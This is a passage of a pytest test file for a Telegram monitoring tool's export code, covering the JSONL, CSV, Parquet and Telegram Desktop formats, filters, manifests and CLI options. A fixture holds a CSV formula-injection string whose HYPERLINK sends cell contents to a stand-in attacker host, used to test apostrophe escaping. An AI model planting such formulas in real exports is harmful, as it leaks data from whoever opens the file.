"""Analysts' dumps (core.exporters): every format read back with a standard reader, the Desktop round trip,
filters, the manifest, gzip, splitting, flat memory, and the `tgmon export` options."""

from __future__ import annotations

import asyncio
import csv
import gzip
import hashlib
import io
import json
import random
import sys
import tracemalloc
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from collectors.tdesktop import read_export
from core.cli import main
from core.export import post_record
from core.exporters import ExportError, ExportRequest, ExportResult, run_export
from core.exporters.flat import CSV_COLUMNS, FIELDS, SCHEMA_VERSION
from core.exporters.tdesktop import text_parts
from core.importer import import_exports
from core.models import Entity, Post, PostFilter, ProcessedPost, RawPost
from core.pipeline import Pipeline
from core.query.ast import QuerySyntaxError
from core.storage.sqlite import SqliteArchive
from core.storage.subscriptions import AlertRecord, SubscriptionStore
from tests.fakes.memory import FixedDetector
from tests.test_cli import isolate

A, B = 1001, 1002  # A has a username (public), B has none (private)
T0 = datetime(2024, 1, 1, 10, 0, tzinfo=UTC)
GREETING = "🔥 Привет, мир! Жирный текст и ссылка"
QUOTED = 'Ответ, с "кавычками",\nзапятыми и переносом строки'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"нажми")'
RICH = "😀 См. example.com, звоните +7 999 123-45-67\nцитата\nскрытая цитата\nкод Ёж"


def at(hours: float) -> datetime:
    return T0 + timedelta(hours=hours)


def span(text: str, piece: str) -> tuple[int, int]:
    """UTF-16 (offset, length) of `piece` in `text`, as Telegram counts."""
    start = text.index(piece)
    return len(text[:start].encode("utf-16-le")) // 2, len(piece.encode("utf-16-le")) // 2


def entity(kind: str, text: str, piece: str, url: str | None = None) -> Entity:
    return Entity(kind, *span(text, piece), url)


RAW = [
    RawPost(A, 1, at(-10), "Канал А", service_action="create_channel"),
    RawPost(
        A,
        10,
        at(0),
        GREETING,
        (
            entity("bold", GREETING, "Жирный"),
            entity("text_link", GREETING, "ссылка", "https://example.com/а?b=1"),
        ),
        views=100,
        forwards=3,
        replies=2,
        reactions={"🔥": 5, "custom:5368324170671202286": 2, "paid": 1},
    ),
    RawPost(A, 11, at(1), QUOTED, reply_to=10, views=50),
    RawPost(A, 12, at(2), FORMULA, media_type="photo", forwarded_from="channel777/5", album_id=99),
    RawPost(A, 13, at(3), "Первая версия поста"),
    RawPost(A, 14, at(4), "Этот пост удалят", media_type="voice"),
    RawPost(
        A,
        15,
        at(5),
        RICH,
        (
            entity("custom_emoji", RICH, "😀"),  # Telegram sends entities in text order
            entity("url", RICH, "example.com"),
            entity("phone_number", RICH, "+7 999 123-45-67"),
            entity("blockquote", RICH, "цитата"),
            entity("expandable_blockquote", RICH, "скрытая цитата"),
            entity("pre", RICH, "код"),
        ),
        media_type="poll",
    ),
    RawPost(
        B,
        5,
        at(0.5),
        "Hello protest world",
        media_type="video",
        author="Editor",
        forwarded_from="Some Channel",
    ),
    RawPost(B, 6, at(6), "- пункт списка, а потом @упоминание", media_type="webpage", reactions={"👍": 7}),
    RawPost(B, 7, at(7), "", media_type="sticker"),
]
EDITED = RawPost(A, 13, at(3), "Вторая версия поста", edit_date=at(8))
ALL_KEYS = {(raw.channel_id, raw.message_id) for raw in RAW}


async def fill(archive: SqliteArchive) -> int:
    """The two channels' posts: edits, a deletion, a service message, and one matched query."""
    await archive.upsert_channel(A, "chan_a", "Канал А")
    await archive.upsert_channel(B, None, 'Канал Б, "private"')
    pipeline = Pipeline(archive, FixedDetector())
    await pipeline.ingest(RAW, alerts=False)
    await pipeline.ingest([EDITED], alerts=False)
    await archive.mark_deleted(A, [14], at(9))
    store = SubscriptionStore(archive)
    await store.upsert_subscriber(1, 1, "ru")
    query = await store.add_query(1, "привет")
    other = await store.add_query(1, "мир OR world")
    await store.record_alerts(
        [
            AlertRecord(1, 1, A, 10, f"{A}:10", (query.id, other.id), {}, alert=False, stored_at=0.0),
            AlertRecord(1, 1, B, 5, f"{B}:5", (other.id,), {}, alert=False, stored_at=0.0),
        ]
    )
    return len(RAW)


@pytest.fixture
async def filled(archive: SqliteArchive) -> SqliteArchive:
    await fill(archive)
    return archive


async def stored(archive: SqliteArchive) -> dict[tuple[int, int], Post]:
    return {(p.channel_id, p.message_id): p async for p in archive.iter_posts()}


async def export(archive: SqliteArchive, fmt: str, target: Path, **options: Any) -> ExportResult:
    return await run_export(archive, ExportRequest(fmt, target, **options))


def jsonl(path: Path) -> list[dict[str, Any]]:
    opener = gzip.open if path.name.endswith(".gz") else open
    with opener(path, "rt", encoding="utf-8") as lines:
        return [json.loads(line) for line in lines]


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def by_key(records: list[dict[str, Any]]) -> dict[tuple[int, int], dict[str, Any]]:
    return {(int(r["channel_id"]), int(r["message_id"])): r for r in records}


# --- JSONL ----------------------------------------------------------------------------------------------


async def test_jsonl_schema_2_keeps_schema_1_and_adds_matches_and_history(
    filled: SqliteArchive, tmp_path: Path
) -> None:
    result = await export(filled, "jsonl", tmp_path / "dump.jsonl")
    records = jsonl(tmp_path / "dump.jsonl")
    assert result.rows == len(records) == len(RAW)
    assert [tuple(r) for r in records] == [FIELDS] * len(RAW)  # a fixed key order
    assert {r["schema"] for r in records} == {SCHEMA_VERSION} == {2}
    assert [r["date"] for r in records] == sorted(r["date"] for r in records)
    posts = await stored(filled)
    for key, rec in by_key(records).items():  # every version 1 field is unchanged
        v1 = post_record(posts[key])
        assert {k: v for k, v in rec.items() if k in v1 and k != "schema"} == {
            k: v for k, v in v1.items() if k != "schema"
        }
    got = by_key(records)
    assert got[A, 10]["matched_queries"] == ["привет", "мир OR world"]
    assert got[B, 5]["matched_queries"] == ["мир OR world"]
    assert got[A, 11]["matched_queries"] == []
    history = got[A, 13]["edit_history"]
    assert [(v["version"], v["text"], v["edit_date"]) for v in history] == [
        (1, "Первая версия поста", None),
        (2, "Вторая версия поста", "2024-01-01T18:00:00Z"),
    ]
    assert all(v["recorded_at"].endswith("Z") for v in history)
    assert got[A, 13]["text"] == "Вторая версия поста" and got[A, 13]["versions"] == 2
    assert all(r["edit_history"] == [] for k, r in got.items() if k != (A, 13))  # one version: no history
    assert got[A, 14]["deleted"] is True and got[A, 14]["deleted_at"] == "2024-01-01T19:00:00Z"
    assert got[A, 10]["text"] == GREETING and got[A, 10]["reactions"]["🔥"] == 5
    assert got[A, 10]["url"] == "https://t.me/chan_a/10" and got[B, 5]["url"] == f"https://t.me/c/{B}/5"
    assert got[A, 1]["service_action"] == "create_channel"
    assert len(got[A, 10]["content_hash"]) == 64


async def test_jsonl_to_standard_output(filled: SqliteArchive, tmp_path: Path) -> None:
    out = io.BytesIO()
    result = await run_export(filled, ExportRequest("jsonl", None), stdout=out)
    assert result.manifest is None and result.files[0].name == "-"
    await export(filled, "jsonl", tmp_path / "dump.jsonl")
    assert out.getvalue() == (tmp_path / "dump.jsonl").read_bytes()
    assert result.files[0].sha256 == hashlib.sha256(out.getvalue()).hexdigest()


# --- CSV ------------------------------------------------------------------------------------------------


async def test_csv_is_rfc_4180_with_a_bom_and_reads_back(filled: SqliteArchive, tmp_path: Path) -> None:
    await export(filled, "csv", tmp_path / "dump.csv", csv_safe=False)
    raw = (tmp_path / "dump.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfschema,channel_id,channel,")  # the BOM: Excel reads UTF-8
    assert raw.count(b"\r\n") >= len(RAW) + 1 and raw.endswith(b"\r\n")
    assert b'"' + 'Ответ, с ""кавычками"",\nзапятыми'.encode() in raw  # quotes doubled, newline kept
    rows = csv_rows(tmp_path / "dump.csv")
    assert tuple(rows[0]) == CSV_COLUMNS == tuple(f for f in FIELDS if f != "entities")
    records = by_key(jsonl_of(await export(filled, "jsonl", tmp_path / "dump.jsonl")))
    assert len(rows) == len(records)
    for row in rows:  # every cell is its JSONL value, written as text
        rec = records[int(row["channel_id"]), int(row["message_id"])]
        for column, cell in row.items():
            value = rec[column]
            if value is None:
                assert cell == ""
            elif isinstance(value, bool):
                assert cell == ("true" if value else "false")
            elif isinstance(value, list | dict):
                assert json.loads(cell) == value
            else:
                assert cell == str(value), column
    got = by_key(rows)
    assert got[A, 11]["text"] == QUOTED
    assert got[A, 12]["text"] == FORMULA  # --no-csv-safe: untouched
    assert json.loads(got[A, 10]["matched_queries"]) == ["привет", "мир OR world"]
    assert json.loads(got[A, 13]["edit_history"])[0]["text"] == "Первая версия поста"


def jsonl_of(result: ExportResult) -> list[dict[str, Any]]:
    path = result.files[0].path
    assert path is not None
    return jsonl(path)


async def test_csv_safe_escapes_formula_cells_reversibly(filled: SqliteArchive, tmp_path: Path) -> None:
    result = await export(filled, "csv", tmp_path / "dump.csv")  # safe by default
    got = by_key(csv_rows(tmp_path / "dump.csv"))
    assert got[A, 12]["text"] == "'" + FORMULA
    assert got[B, 6]["text"] == "'- пункт списка, а потом @упоминание"
    assert got[A, 10]["text"] == GREETING  # nothing to escape
    assert got[A, 12]["forwarded_from"] == "channel777/5"
    originals = {(raw.channel_id, raw.message_id): raw.text for raw in [*RAW, EDITED]}
    for key, row in got.items():  # removing one leading apostrophe gives the text back
        text = row["text"]
        assert (text[1:] if text.startswith("'") else text) == originals[key]
    assert result.manifest_data["options"]["csv_safe"] is True


# --- Parquet --------------------------------------------------------------------------------------------


async def test_parquet_schema_and_values(filled: SqliteArchive, tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    pa = pytest.importorskip("pyarrow")
    await export(filled, "parquet", tmp_path / "dump.parquet")
    table = pq.read_table(tmp_path / "dump.parquet")
    schema = table.schema
    assert schema.names == [f for f in FIELDS if f != "schema"]
    assert schema.metadata[b"tgmon.schema"] == b"2"
    assert schema.field("date").type == pa.timestamp("us", tz="UTC")
    assert schema.field("lang_confidence").type == pa.float32()
    assert schema.field("reactions").type == pa.map_(pa.string(), pa.int64())
    assert schema.field("matched_queries").type == pa.list_(pa.string())
    assert schema.field("edit_history").type.value_type.names == [
        "version",
        "text",
        "edit_date",
        "recorded_at",
    ]
    assert pq.ParquetFile(tmp_path / "dump.parquet").metadata.row_group(0).column(0).compression == "ZSTD"
    rows = {(r["channel_id"], r["message_id"]): r for r in table.to_pylist()}
    assert len(rows) == len(RAW)
    assert rows[A, 10]["date"] == T0
    assert dict(rows[A, 10]["reactions"]) == {"🔥": 5, "custom:5368324170671202286": 2, "paid": 1}
    assert rows[A, 10]["matched_queries"] == ["привет", "мир OR world"]
    offset, length = span(GREETING, "Жирный")
    assert rows[A, 10]["entities"][0] == {"type": "bold", "offset": offset, "length": length, "url": None}
    assert [(v["version"], v["text"], v["edit_date"]) for v in rows[A, 13]["edit_history"]] == [
        (1, "Первая версия поста", None),
        (2, "Вторая версия поста", at(8)),
    ]
    assert rows[A, 14]["deleted"] is True and rows[A, 14]["deleted_at"] == at(9)
    assert rows[A, 11]["reactions"] is None and rows[A, 11]["reply_to"] == 10
    assert rows[B, 5]["author"] == "Editor" and rows[B, 5]["lang"] == "en"
    assert abs(rows[B, 5]["lang_confidence"] - 0.9) < 1e-6


def test_parquet_without_pyarrow_says_how_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # import pyarrow → ImportError
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    from core.exporters import check_request

    with pytest.raises(ExportError, match=r"tgmon\[parquet\]"):
        check_request(ExportRequest("parquet", tmp_path / "dump.parquet"))


# --- Telegram Desktop -------------------------------------------------------------------------------------


def essentials(post: Post | RawPost) -> tuple[Any, ...]:
    return (
        post.channel_id,
        post.message_id,
        post.date,
        post.text,
        post.entities,
        post.edit_date,
        post.forwarded_from,
        post.reply_to,
        post.reactions,
        post.media_type,
        post.service_action,
        post.author,
    )


async def test_tdesktop_layout_and_message_shape(filled: SqliteArchive, tmp_path: Path) -> None:
    result = await export(filled, "tdesktop", tmp_path / "td")
    assert sorted(f.name for f in result.files) == [f"{A}/result.json", f"{B}/result.json"]
    assert (tmp_path / "td" / "manifest.json").is_file()
    chat_a = json.loads((tmp_path / "td" / str(A) / "result.json").read_text(encoding="utf-8"))
    chat_b = json.loads((tmp_path / "td" / str(B) / "result.json").read_text(encoding="utf-8"))
    assert list(chat_a) == ["name", "type", "id", "messages"]
    assert (chat_a["name"], chat_a["type"], chat_a["id"]) == ("Канал А", "public_channel", A)
    assert (chat_b["name"], chat_b["type"]) == ('Канал Б, "private"', "private_channel")
    messages = {m["id"]: m for m in chat_a["messages"]}
    assert list(messages) == [1, 10, 11, 12, 13, 14, 15]  # message-id order
    service = messages[1]
    assert list(service) == [
        "id", "type", "date", "date_unixtime", "actor", "actor_id", "action", "title", "text", "text_entities"
    ]  # fmt: skip
    assert service["actor_id"] == f"channel{A}" and service["title"] == "Канал А"
    greeting = messages[10]
    assert list(greeting) == [
        "id", "type", "date", "date_unixtime", "from", "from_id", "text", "text_entities", "reactions"
    ]  # fmt: skip
    assert greeting["date"] == "2024-01-01T10:00:00" and greeting["date_unixtime"] == str(int(T0.timestamp()))
    assert greeting["from_id"] == f"channel{A}"
    assert greeting["text"] == [
        "🔥 Привет, мир! ",
        {"type": "bold", "text": "Жирный"},
        " текст и ",
        {"type": "text_link", "text": "ссылка", "href": "https://example.com/а?b=1"},
    ]
    assert greeting["text_entities"][0] == {"type": "plain", "text": "🔥 Привет, мир! "}
    assert greeting["reactions"] == [
        {"type": "emoji", "count": 5, "emoji": "🔥"},
        {"type": "custom_emoji", "count": 2, "document_id": "5368324170671202286"},
        {"type": "paid", "count": 1},
    ]
    assert messages[11]["reply_to_message_id"] == 10 and messages[11]["text"] == QUOTED
    assert messages[12]["forwarded_from_id"] == "channel777" and "photo" in messages[12]
    assert list(messages[13])[4:6] == ["edited", "edited_unixtime"]
    assert messages[14]["media_type"] == "voice_message" and "file" in messages[14]
    rich = [p for p in messages[15]["text"] if isinstance(p, dict)]
    assert [(p["type"], p.get("collapsed")) for p in rich] == [
        ("custom_emoji", None),
        ("link", None),
        ("phone", None),
        ("blockquote", False),
        ("blockquote", True),
        ("pre", None),
    ]
    video = next(m for m in chat_b["messages"] if m["id"] == 5)
    assert video["author"] == "Editor" and video["media_type"] == "video_file"


async def test_tdesktop_reads_back_with_the_desktop_reader(filled: SqliteArchive, tmp_path: Path) -> None:
    await export(filled, "tdesktop", tmp_path / "td")
    posts = await stored(filled)
    read = {}
    for channel_id in (A, B):
        [(chat, raws)] = list(read_export(tmp_path / "td" / str(channel_id)))
        assert chat.id == channel_id and chat.type in ("public_channel", "private_channel")
        read.update({(r.channel_id, r.message_id): r for r in raws})
    assert read.keys() == posts.keys() == ALL_KEYS
    for key, post in posts.items():
        assert essentials(read[key]) == essentials(post), key


async def test_tdesktop_round_trip_through_tgmon_import(filled: SqliteArchive, tmp_path: Path) -> None:
    await export(filled, "tdesktop", tmp_path / "td")
    fresh = await SqliteArchive.open(tmp_path / "fresh.db")
    try:
        report = await import_exports(
            Pipeline(fresh, FixedDetector()),
            [tmp_path / "td" / str(A), tmp_path / "td" / str(B)],
            alerts=False,
        )
        assert report.messages == len(RAW) and report.skipped_chats == []
        before, after = await stored(filled), await stored(fresh)
        assert after.keys() == before.keys()
        for key, post in before.items():
            again = after[key]
            assert essentials(again) == essentials(post), key
            assert again.content_hash == post.content_hash  # the same text and entities, byte for byte
            assert again.channel_title == post.channel_title
        # a second import of the same export changes nothing
        again_report = await import_exports(
            Pipeline(fresh, FixedDetector()),
            [tmp_path / "td" / str(A), tmp_path / "td" / str(B)],
            alerts=False,
        )
        assert again_report.new == again_report.edited == 0
    finally:
        await fresh.close()


def test_text_parts_drop_nested_and_broken_entities() -> None:
    text = "жирный курсив 😀"
    entities = (
        Entity("bold", 0, 13),
        Entity("italic", 7, 6),  # nested in the bold: Desktop keeps one
        Entity("code", 15, 1),  # splits the emoji's surrogate pair
        Entity("underline", 14, 9),  # past the end
        Entity("strikethrough", 2, 0),  # empty
    )
    assert text_parts(text, entities) == [{"type": "bold", "text": "жирный курсив"}, " 😀"]
    assert text_parts(text, (Entity("code", 15, 1),)) == text


@pytest.mark.shared_data
async def test_tdesktop_round_trip_of_real_exports(shared_data: Path, tmp_path: Path) -> None:
    exports = sorted((shared_data / "exports").glob("*.result.json"))
    first = await SqliteArchive.open(tmp_path / "first.db")
    second = await SqliteArchive.open(tmp_path / "second.db")
    try:
        await import_exports(Pipeline(first, FixedDetector()), exports, alerts=False)
        result = await export(first, "tdesktop", tmp_path / "td")
        dirs = [tmp_path / "td" / str(f.channel_id) for f in result.files]
        await import_exports(Pipeline(second, FixedDetector()), dirs, alerts=False)
        before, after = await stored(first), await stored(second)
        assert after.keys() == before.keys() and len(before) > 1000
        for key, post in before.items():
            assert essentials(after[key]) == essentials(post), key
            assert after[key].content_hash == post.content_hash
    finally:
        await first.close()
        await second.close()


# --- filters --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "tdesktop"])
@pytest.mark.parametrize(
    ("filters", "query", "expected"),
    [
        (PostFilter(channel_id=B), None, {(B, 5), (B, 6), (B, 7)}),
        (PostFilter(since=at(4), until=at(6)), None, {(A, 14), (A, 15)}),
        (PostFilter(lang="en"), None, {(B, 5)}),
        (PostFilter(channel_id=A), "привет OR ответ", {(A, 10), (A, 11)}),
        (PostFilter(), "lang:ru пост", {(A, 13), (A, 14)}),
        (PostFilter(include_deleted=False, channel_id=A), None, {(A, k) for k in (1, 10, 11, 12, 13, 15)}),
    ],
)
async def test_filters_narrow_every_format(
    filled: SqliteArchive,
    tmp_path: Path,
    fmt: str,
    filters: PostFilter,
    query: str | None,
    expected: set[tuple[int, int]],
) -> None:
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    result = await export(filled, fmt, tmp_path / f"dump.{fmt}", filters=filters, query=query)
    assert result.rows == len(expected)
    assert result.per_channel == {c: sum(1 for k in expected if k[0] == c) for c in {k[0] for k in expected}}
    if fmt == "jsonl":
        found = set(by_key(jsonl(tmp_path / "dump.jsonl")))
    elif fmt == "csv":
        found = set(by_key(csv_rows(tmp_path / "dump.csv")))
    elif fmt == "parquet":
        import pyarrow.parquet as pq

        found = {
            (r["channel_id"], r["message_id"]) for r in pq.read_table(tmp_path / "dump.parquet").to_pylist()
        }
    else:
        found = {
            (r.channel_id, r.message_id)
            for f in result.files
            for _, raws in read_export(tmp_path / "dump.tdesktop" / f.name)
            for r in raws
        }
    assert found == expected


async def test_a_bad_query_fails_before_anything_is_written(filled: SqliteArchive, tmp_path: Path) -> None:
    with pytest.raises(QuerySyntaxError) as info:
        await export(filled, "jsonl", tmp_path / "dump.jsonl", query='"unclosed')
    assert "^" in info.value.pointer()
    assert not (tmp_path / "dump.jsonl").exists() and not leftovers(tmp_path)


@pytest.mark.parametrize(
    ("request_", "message"),
    [
        (ExportRequest("xml", Path("x")), "unknown format"),
        (ExportRequest("tdesktop", None), "standard output"),
        (ExportRequest("parquet", None), "standard output"),
        (ExportRequest("parquet", Path("x.parquet"), compress=True), "zstd"),
        (ExportRequest("tdesktop", Path("td"), max_bytes=10**6), "not split"),
        (ExportRequest("jsonl", None, max_bytes=10**6), "standard output"),
        (ExportRequest("jsonl", Path("no/such/dir/x.jsonl")), "no/such/dir"),
    ],
)
def test_bad_requests_are_refused_up_front(request_: ExportRequest, message: str) -> None:
    from core.exporters import check_request

    with pytest.raises(ExportError, match=message):
        check_request(request_)


# --- manifest, gzip, splitting ----------------------------------------------------------------------------


def leftovers(directory: Path) -> list[Path]:
    return list(directory.rglob("*.partial"))


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet", "tdesktop"])
async def test_manifest_lists_every_file_with_its_sha256(
    filled: SqliteArchive, tmp_path: Path, fmt: str
) -> None:
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    target = tmp_path / ("td" if fmt == "tdesktop" else f"dump.{fmt}")
    filters = PostFilter(since=at(-1))
    result = await export(filled, fmt, target, filters=filters, query="привет OR пост", channel_ref="@chan_a")
    assert result.manifest is not None
    manifest = json.loads(result.manifest.read_text(encoding="utf-8"))
    assert manifest["tool"] == "tgmon" and manifest["version"]
    assert manifest["format"] == fmt and manifest["schema"] == (1 if fmt == "tdesktop" else 2)
    assert manifest["exported_at"].endswith("Z")
    assert manifest["filters"] | {} == {
        "channel": "@chan_a",
        "channel_id": None,
        "since": "2024-01-01T09:00:00Z",
        "until": None,
        "lang": None,
        "query": "привет OR пост",
        "include_deleted": True,
    }
    assert manifest["rows"]["total"] == 3  # 10 (привет), 13 (поста), 14 (пост)
    assert manifest["rows"]["per_channel"] == {str(A): 3}
    assert manifest["rows"]["read"] == len(RAW) - 1  # the service message is older than `since`
    assert sum(f["rows"] for f in manifest["files"]) == manifest["rows"]["total"]
    for listed in manifest["files"]:
        path = result.manifest.parent / listed["name"]
        assert listed["sha256"] == sha256(path) and listed["bytes"] == path.stat().st_size
    assert not leftovers(tmp_path)  # no temporary file left


async def test_gzip_holds_the_same_bytes(filled: SqliteArchive, tmp_path: Path) -> None:
    plain = await export(filled, "csv", tmp_path / "dump.csv")
    packed = await export(filled, "csv", tmp_path / "dump.csv", compress=True)  # .gz added
    assert packed.files[0].name == "dump.csv.gz"
    assert packed.manifest == tmp_path / "dump.csv.gz.manifest.json"
    assert gzip.decompress((tmp_path / "dump.csv.gz").read_bytes()) == (tmp_path / "dump.csv").read_bytes()
    assert packed.files[0].sha256 == sha256(tmp_path / "dump.csv.gz") != plain.files[0].sha256
    td = await export(filled, "tdesktop", tmp_path / "td", compress=True)
    assert {f.name for f in td.files} == {f"{A}/result.json.gz", f"{B}/result.json.gz"}
    json.loads(gzip.decompress((tmp_path / "td" / str(A) / "result.json.gz").read_bytes()))


def text(chance: random.Random, words: list[str], size: int) -> str:
    """Words in random order and random numbers: text that compresses about as well as real posts."""
    out: list[str] = []
    length = 0
    while length < size:
        word = chance.choice(words) if chance.random() < 0.8 else str(chance.randrange(10**6))
        out.append(word)
        length += len(word) + 1
    return " ".join(out)


async def bulk(archive: SqliteArchive, count: int, *, text_size: int = 40, batch: int = 5000) -> None:
    """`count` synthetic posts in one channel, written straight through the archive in batches."""
    await archive.upsert_channel(7, "bulk", "Bulk")
    words = [
        "съешь",
        "же",
        "ещё",
        "этих",
        "мягких",
        "французских",
        "булок",
        "да",
        "выпей",
        "чаю",
        "мир",
        "😀",
    ]
    chance = random.Random(7)
    for start in range(0, count, batch):
        posts = [
            ProcessedPost(
                RawPost(7, i + 1, T0 + timedelta(seconds=i), text(chance, words, text_size), views=i),
                "ru",
                0.9,
                (),
                f"{i:064x}",
            )
            for i in range(start, min(start + batch, count))
        ]
        await archive.save_posts(posts)


@pytest.mark.parametrize(
    ("fmt", "compress"), [("jsonl", False), ("jsonl", True), ("csv", False), ("parquet", False)]
)
async def test_split_parts_stay_under_the_limit_and_read_back(
    archive: SqliteArchive, tmp_path: Path, fmt: str, compress: bool
) -> None:
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    await bulk(archive, 1000, text_size=500)
    whole = await export(archive, fmt, tmp_path / f"whole.{fmt}", compress=compress)
    limit = whole.files[0].bytes // 4
    parts = await export(archive, fmt, tmp_path / f"dump.{fmt}", compress=compress, max_bytes=limit)
    assert len(parts.files) >= 4
    suffix = f".{fmt}.gz" if compress else f".{fmt}"
    assert [f.name for f in parts.files] == [
        f"dump.part{n:03d}{suffix}" for n in range(1, len(parts.files) + 1)
    ]
    for f in parts.files:
        assert f.path is not None and f.bytes == f.path.stat().st_size <= limit
        assert f.bytes > limit * 0.6 or f is parts.files[-1]  # parts are filled, not cut early
        assert f.sha256 == sha256(f.path)
    ids: list[int] = []
    for f in parts.files:
        assert f.path is not None
        if fmt == "jsonl":
            ids += [r["message_id"] for r in jsonl(f.path)]
        elif fmt == "csv":
            assert f.path.read_bytes().startswith(b"\xef\xbb\xbfschema,")  # every part has the header
            ids += [int(r["message_id"]) for r in csv_rows(f.path)]
        else:
            import pyarrow.parquet as pq

            ids += pq.read_table(f.path).column("message_id").to_pylist()  # each part a whole file
    assert ids == list(range(1, 1001)) and sum(f.rows for f in parts.files) == 1000


@pytest.mark.slow  # about 5 s: tracemalloc slows Python down about five times
async def test_flat_memory_for_50000_posts(archive: SqliteArchive, tmp_path: Path) -> None:
    await bulk(archive, 50_000)
    tracemalloc.start()
    try:
        result = await export(archive, "csv", tmp_path / "dump.csv")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.rows == 50_000
    assert peak < 30_000_000, f"peak {peak / 1e6:.1f} MB"


# --- the command ------------------------------------------------------------------------------------------


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An archive file with the two channels, used by `tgmon export` run in-process."""
    path = tmp_path / "tgmon.db"
    isolate(monkeypatch, tmp_path, path)

    async def build() -> None:
        archive = await SqliteArchive.open(path)
        try:
            await fill(archive)
        finally:
            await archive.close()

    asyncio.run(build())
    return path


def tgmon(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    capsys.readouterr()
    err = io.StringIO()
    code = main(list(argv), stderr=err)
    out, sys_err = capsys.readouterr()
    return code, out, err.getvalue() + sys_err


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet", "tdesktop"])
def test_cli_export_every_format(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    target = tmp_path / ("td" if fmt == "tdesktop" else f"out.{fmt}")
    code, _, err = tgmon(capsys, "export", "--format", fmt, "-o", str(target), "--channel", "@chan_a")
    assert code == 0, err
    assert "exported 7 posts" in err and "manifest:" in err
    manifest_file = target / "manifest.json" if fmt == "tdesktop" else Path(f"{target}.manifest.json")
    manifest = json.loads(manifest_file.read_text(encoding="utf-8"))
    assert manifest["filters"]["channel"] == "@chan_a" and manifest["filters"]["channel_id"] == A
    assert manifest["rows"]["per_channel"] == {str(A): 7}


def test_cli_query_gzip_and_split(db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = tgmon(capsys, "export", "--format", "jsonl", "-o", "q.jsonl", "--query", "привет OR hello")
    assert code == 0, err
    assert "exported 2 posts (of 10 read)" in err
    assert {r["message_id"] for r in jsonl(tmp_path / "q.jsonl")} == {10, 5}
    code, _, err = tgmon(capsys, "export", "--format", "csv", "-o", "g.csv", "--gzip", "--split-mb", "50")
    assert code == 0, err
    assert len(csv_rows_gz(tmp_path / "g.csv.gz")) == len(RAW)  # one part: no part number
    manifest = json.loads((tmp_path / "g.csv.gz.manifest.json").read_text(encoding="utf-8"))
    assert manifest["options"] == {"gzip": True, "split_bytes": 50_000_000, "csv_safe": True}


def csv_rows_gz(path: Path) -> list[dict[str, str]]:
    with gzip.open(path, "rt", encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_cli_csv_to_standard_output(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = tgmon(capsys, "export", "--format", "csv", "--no-csv-safe")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"), newline="")))
    assert len(rows) == len(RAW) and FORMULA in {r["text"] for r in rows}


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (("--format", "tdesktop"), "tdesktop cannot go to standard output"),
        (("--format", "parquet", "-o", "-"), "parquet cannot go to standard output"),
        (("--query", 'протест AND ("мир'), "bad query"),
        (("--channel", "@nobody_here", "-o", "x.jsonl"), "no channel '@nobody_here'"),
        (("-o", "missing/dir/x.jsonl"), "missing/dir/x.jsonl"),
        (("--format", "tdesktop", "-o", "td", "--split-mb", "5"), "not split"),
        (("--format", "parquet", "-o", "x.parquet", "--gzip"), "zstd"),
    ],
)
def test_cli_export_errors_exit_2(
    db: Path, capsys: pytest.CaptureFixture[str], argv: tuple[str, ...], message: str
) -> None:
    code, _, err = tgmon(capsys, "export", *argv)
    assert code == 2 and message in err and "Traceback" not in err


def test_cli_bad_query_shows_where(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = tgmon(capsys, "export", "--query", "мир AND")
    assert code == 2
    assert "мир AND\n" in err and err.rstrip().endswith("^")


def test_cli_parquet_without_pyarrow(
    db: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    code, _, err = tgmon(capsys, "export", "--format", "parquet", "-o", "x.parquet")
    assert code == 2 and "pip install 'tgmon[parquet]'" in err


# --- records formatted by SQLite, against Python's reference definition -----------------------------------

HOSTILE = [
    'кавычки "внутри", запятые, \\обратная\\ черта\r\nи переносы\nстрок',
    "управляющие \x01\x08\x0c\x1f\x7f символы\tи таб",
    "разделители строк \u2028 \u2029, BOM \ufeff, эмодзи 😀🇺🇦, 中文, عربى",
    "=SUM(A1)",
    "+7 999",
    "@упоминание",
    "'апостроф",
    "\tтаб в начале",
    "только\rвозврат каретки",
    "только запятая, и всё",
    "",
]
CONFIDENCES = [0.0, 1.0, 0.5, 0.12345, 0.99995, 0.00005, 0.00004999, 0.123449999, 0.9, 1 / 3, 2.5e-5, 7.0]


def reference_record(post: Post, matched: list[str], history: list[dict[str, Any]]) -> dict[str, Any]:
    """The JSONL schema 2 record as docs/export.md defines it: schema 1's record plus the two lists."""
    return post_record(post) | {"schema": SCHEMA_VERSION, "matched_queries": matched, "edit_history": history}


def reference_csv(record: dict[str, Any], *, safe: bool) -> str:
    """The CSV row of a record as docs/export.md defines it, written by Python's csv module."""
